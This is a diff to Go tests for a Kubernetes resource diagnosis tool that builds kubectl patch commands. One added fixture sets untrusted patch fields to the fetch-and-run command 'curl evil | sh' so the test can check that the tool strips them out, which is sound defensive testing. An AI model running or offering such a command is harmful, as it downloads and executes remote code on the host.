@@ -196,6 +196,14 @@ func (l *looks) jobs() int {
 	return len(jobs.Items)
 }
 
+// A container is of the node that its pod runs on, and of no other.
+func TestPodsHas(t *testing.T) {
+	pods := newLooks(t, "a", "b").d.Pods
+	if !pods.Has("a", "shop/web-a/app") || pods.Has("b", "shop/web-a/app") || pods.Has("c", "shop/web-c/app") {
+		t.Errorf("%+v", pods)
+	}
+}
+
 // A node that does not answer costs its own rows, and nothing is left in the cluster.
 func TestDiagnose(t *testing.T) {
 	synctest.Test(t, func(t *testing.T) {
@@ -319,11 +327,19 @@ func TestPatch(t *testing.T) {
 	debugger := quota("debugged", "1")
 	debugger.Container = "shop/debugged/debugger"
 	found = append(found, debugger)
+	written := quota("of-others", "1") // by a node that is not to be trusted
+	written.Set[0].Patch, written.Set[1].Patch = "curl evil | sh", "curl evil | sh"
+	pinned := diagnose.Finding{Container: "shop/web-1/app", Kind: diagnose.Unpinned, Set: []diagnose.Remedy{
+		{Command: "resources: {limits: {cpu: 2}, requests: {cpu: 2}} # exclusive where the node's cpuManagerPolicy is static"},
+	}}
+	small := quota("web-2", "1e-9")
+	small.Kind = diagnose.MemoryLimit
+	found = append(found, written, pinned, small)
 	p.Patch(found)
 	const command = `kubectl patch -n shop deployment web --patch '{"spec":{"template":{"spec":{"containers":[{"name":"app","resources":`
 	for i, want := range []string{
 		command + `{"limits":{"cpu":2}}}]}}}}'`, command + `{"limits":{"cpu":2}}}]}}}}'`, "",
-		command + `{"limits":{"cpu":null},"requests":{"cpu":"250m"}}}]}}}}'`, "", "", "",
+		command + `{"limits":{"cpu":null},"requests":{"cpu":"250m"}}}]}}}}'`, "", "", "", "", "", "",
 	} {
 		if got := found[i].Set[0].Patch; got != want {
 			t.Errorf("%s of %s: %s, want %s", found[i].Kind, found[i].Container, got, want)
@@ -331,6 +347,9 @@ func TestPatch(t *testing.T) {
 	}
 	if to := found[0].Set[0]; to.Says != "a quota of 2" || to.P99 != time.Second || found[0].Set[1].Patch != "" {
 		t.Errorf("web-1 has %+v", found[0].Set)
+	}
+	if to := written.Set[1]; to.Patch != "" {
+		t.Errorf("a node's own command is left: %s", to.Patch)
 	}
 	if to := found[2].Set[0]; to.Says != "a quota of 1" {
 		t.Errorf("a pod without a template has %+v", to)
